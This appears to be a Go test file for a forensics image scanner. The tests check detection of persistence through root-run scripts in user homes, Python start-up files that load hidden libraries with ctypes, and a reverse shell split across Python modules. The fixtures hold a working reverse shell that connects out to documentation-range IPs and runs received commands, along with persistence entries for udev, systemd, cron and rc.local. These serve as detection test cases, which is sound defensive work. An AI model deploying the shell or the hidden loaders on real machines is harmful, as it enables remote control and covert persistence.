package shell_test

import (
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// TestRootRunsUserFile: a file in an ordinary user's home that root runs from a udev rule, a
// system unit, an rc script or the system crontab is that user's to change: persistence
// (high), whatever the file holds today. A user's own crontab or user unit running a script
// of their home is ordinary.
func TestRootRunsUserFile(t *testing.T) {
	script := imagebuild.Reg("/home/dev/bin/sync.sh", "#!/bin/sh\ntouch /home/dev/.synced\n")
	script.Mode = 0o755
	tests := []struct {
		name string
		file imagebuild.File
		want bool
	}{
		{"udev rule", imagebuild.Reg("/etc/udev/rules.d/70-sync.rules", "ACTION==\"add\", SUBSYSTEM==\"mem\", RUN+=\"/bin/sh -c '/home/dev/bin/sync.sh'\"\n"), true},
		{"system unit", imagebuild.Reg("/etc/systemd/system/sync.service", "[Service]\nExecStart=/home/dev/bin/sync.sh\n[Install]\nWantedBy=multi-user.target\n"), true},
		{"system crontab", imagebuild.Reg("/etc/cron.d/sync", "*/5 * * * * root /home/dev/bin/sync.sh\n"), true},
		{"rc.local", imagebuild.Reg("/etc/rc.local", "#!/bin/sh\n/home/dev/bin/sync.sh &\nexit 0\n"), true},

		{"a system unit run as the user", imagebuild.Reg("/etc/systemd/system/sync.service", "[Service]\nUser=dev\nExecStart=/home/dev/bin/sync.sh\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"), false},
		{"su to the user in a system unit", imagebuild.Reg("/etc/systemd/system/sync.service", "[Service]\nExecStart=/bin/su dev -c \"/home/dev/bin/sync.sh start\"\n[Install]\nWantedBy=multi-user.target\n"), false},
		{"runuser in rc.local", imagebuild.Reg("/etc/rc.local", "#!/bin/sh\nrunuser -u dev -- /home/dev/bin/sync.sh &\nexit 0\n"), false},
		{"a system crontab line run as the user", imagebuild.Reg("/etc/cron.d/sync", "*/5 * * * * dev /home/dev/bin/sync.sh\n"), false},
		{"the user's crontab", imagebuild.Reg("/var/spool/cron/crontabs/dev", "*/5 * * * * /home/dev/bin/sync.sh\n"), false},
		{"a user unit", imagebuild.Reg("/home/dev/.config/systemd/user/sync.service", "[Service]\nExecStart=/home/dev/bin/sync.sh\n"), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{script, tt.file}}}})
			got := false
			for _, f := range res.Findings {
				if f.Path == tt.file.Path && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && strings.Contains(f.Title+f.Evidence, "home") {
					got = true
				}
			}
			if got != tt.want {
				t.Errorf("flagged %v, want %v:\n%s", got, tt.want, dumpFindings(res.Findings))
			}
		})
	}
}

// TestPythonStartupLoads: a start-up module (sitecustomize.py, usercustomize.py) or a .pth
// import line runs at every Python start; one that loads a library from a temporary or hidden
// place with ctypes runs that library in every Python process: persistence, high or above. A
// start-up module loading a library of the system's, or setting paths, is ordinary.
func TestPythonStartupLoads(t *testing.T) {
	tests := []struct {
		name, path, text string
		want             bool
	}{
		{"joined path in sitecustomize", "/usr/lib/python3/dist-packages/sitecustomize.py",
			"import ctypes, os\nname = 'libx.so'\np = os.path.join('/tmp', name)\nlib = ctypes.CDLL(p)\nlib.start()\n", true},
		{"literal in usercustomize", "/usr/local/lib/python3.11/site-packages/usercustomize.py",
			"from ctypes import cdll\ncdll.LoadLibrary(\"/dev/shm/.u/libu.so\").go()\n", true},
		{"a .pth import line", "/usr/lib/python3/dist-packages/zz.pth",
			"import ctypes; ctypes.PyDLL('/var/tmp/.p/p.so')\n", true},
		{"a system library", "/usr/lib/python3/dist-packages/sitecustomize.py",
			"import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nctypes.CDLL('/usr/lib/x86_64-linux-gnu/libm.so.6')\n", false},
		{"paths only", "/usr/lib/python3/dist-packages/sitecustomize.py",
			"import sys\nsys.path.insert(0, '/opt/app/lib')\n", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{imagebuild.Reg(tt.path, tt.text)}}}})
			got := false
			for _, f := range res.Findings {
				if f.Path == tt.path && f.Is(audit.CategoryPersistence) && f.Severity >= audit.High {
					got = true
				}
			}
			if got != tt.want {
				t.Errorf("flagged %v, want %v:\n%s", got, tt.want, dumpFindings(res.Findings))
			}
		})
	}
}

// TestSplitPackageShell: a Python program split over its package's modules (one connects and
// reads, one runs command lines, the main script joins them through method calls) is read as
// one program when its modules import each other. Scripts that only share a directory are
// not, nor is a package whose commands are its own.
func TestSplitPackageShell(t *testing.T) {
	conn := "import socket, time\nclass Link:\n    def __init__(self, h, p):\n        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        while True:\n            try:\n                self.s.connect((h, p))\n                break\n            except OSError:\n                time.sleep(5)\n" +
		"    def get(self):\n        return self.s.recv(4096)\n    def put(self, b):\n        self.s.send(b)\n"
	runner := "import subprocess\nclass Runner:\n    def do(self, line):\n        r = subprocess.run(line, shell=True, capture_output=True)\n        return r.stdout + r.stderr\n"
	tests := []struct {
		name  string
		files map[string]string
		want  bool
	}{
		{"a package with a main script", map[string]string{
			"/opt/.cache/upd/lib/__init__.py": "",
			"/opt/.cache/upd/lib/link.py":     conn,
			"/opt/.cache/upd/lib/runner.py":   runner,
			"/opt/.cache/upd/main.py":         "from lib.link import Link\nfrom lib.runner import Runner\nl = Link('203.0.113.20', 8443)\nr = Runner()\nwhile True:\n    c = l.get().decode()\n    l.put(r.do(c))\n",
		}, true},
		{"sibling modules", map[string]string{
			"/root/tools/link.py":   conn,
			"/root/tools/runner.py": runner,
			"/root/tools/agent.py":  "import link, runner\nl = link.Link('198.51.100.3', 443)\nwhile True:\n    out = runner.Runner().do(l.get())\n    l.put(out)\n",
		}, true},

		{"scripts sharing a directory", map[string]string{
			"/root/scripts/recv.py": "import socket\ns = socket.create_connection(('127.0.0.1', 9000))\ndata = s.recv(100)\nprint(data)\n",
			"/root/scripts/run.py":  "import subprocess, sys\ndata = sys.argv[1]\nsubprocess.run(data, shell=True)\n",
		}, false},
		{"a package running its own commands", map[string]string{
			"/srv/app/app/__init__.py": "",
			"/srv/app/app/net.py":      "import socket\ndef serve(port, handle):\n    s = socket.socket()\n    s.bind(('0.0.0.0', port))\n    s.listen()\n    while True:\n        c, _ = s.accept()\n        handle(c.recv(100))\n        c.send(b'ok')\n",
			"/srv/app/app/jobs.py":     "import subprocess\ndef backup():\n    subprocess.run(['tar', 'czf', '/backup/db.tgz', '/var/lib/db'])\n",
			"/srv/app/run.py":          "from app.net import serve\nfrom app.jobs import backup\ndef handle(msg):\n    if msg == b'backup':\n        backup()\nserve(7000, handle)\n",
		}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var files []imagebuild.File
			for p, text := range tt.files {
				files = append(files, imagebuild.Reg(p, text))
			}
			res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: files}}})
			got := false
			for _, f := range res.Findings {
				if f.Category == audit.CategoryReverseShell && f.Severity >= audit.High && strings.Contains(f.Title, "modules of the package") {
					got = true
				}
			}
			if got != tt.want {
				t.Errorf("flagged %v, want %v:\n%s", got, tt.want, dumpFindings(res.Findings))
			}
		})
	}
}
